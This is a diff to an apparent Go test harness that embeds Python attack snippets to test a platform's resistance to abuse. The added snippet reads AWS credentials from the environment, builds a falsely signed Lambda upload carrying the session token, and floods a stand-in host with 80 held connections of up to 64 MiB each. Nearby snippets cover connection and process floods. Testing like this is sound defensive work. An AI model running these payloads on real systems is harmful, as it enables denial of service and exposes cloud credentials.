@@ -95,6 +95,7 @@ except OSError as x:
     n, held = len(held), None
     result = {"got": n > 1024, "how": "%d open, then: %s" % (n, x)}`)
 	w.harm("thirty thousand connections to the platform", "python-attacker", connections)
+	w.harm("five gigabytes of requests that are signed wrongly", "python-attacker", uploads)
 	w.harm("a thousand processes that never rest", "python-attacker", spinners)
 	w.flood()
 	w.leftover()
@@ -119,6 +120,28 @@ except OSError as x:
 for pid in started:
     os.waitpid(pid, 0)
 result = {"got": False, "how": "%d processes" % len(started)}`
+
+// uploads sends the largest requests that there are, many at once, and does not end them. They name its own key, without a signature that is right.
+const uploads = `
+import os, socket, time
+size, held, sent, refused = 65 << 20, [], 0, "nothing"
+key, token, now = os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SESSION_TOKEN"], time.gmtime()
+head = "POST /2015-03-31/functions HTTP/1.1\r\nHost: lambda.us-east-1.amazonaws.com\r\nContent-Length: %d\r\nX-Amz-Date: %s\r\nX-Amz-Security-Token: %s\r\n" % (
+    size, time.strftime("%Y%m%dT%H%M%SZ", now), token)
+head += "Authorization: AWS4-HMAC-SHA256 Credential=%s/%s/us-east-1/lambda/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=%064d\r\n\r\n" % (
+    key, time.strftime("%Y%m%d", now), 0)
+for _ in range(80):
+    s = socket.create_connection(("198.18.0.1", 80), 20)
+    s.sendall(head.encode())
+    try:
+        for _ in range(64):
+            s.sendall(b"x" * (1 << 20))
+            sent += 1
+    except OSError as x:
+        refused = str(x)
+        break
+    held.append(s)
+result = {"got": sent > 4 << 10, "how": "%d MiB, then: %s" % (sent, refused)}`
 
 // connections opens more connections than the platform may have files, from processes that have their own limits.
 const connections = `
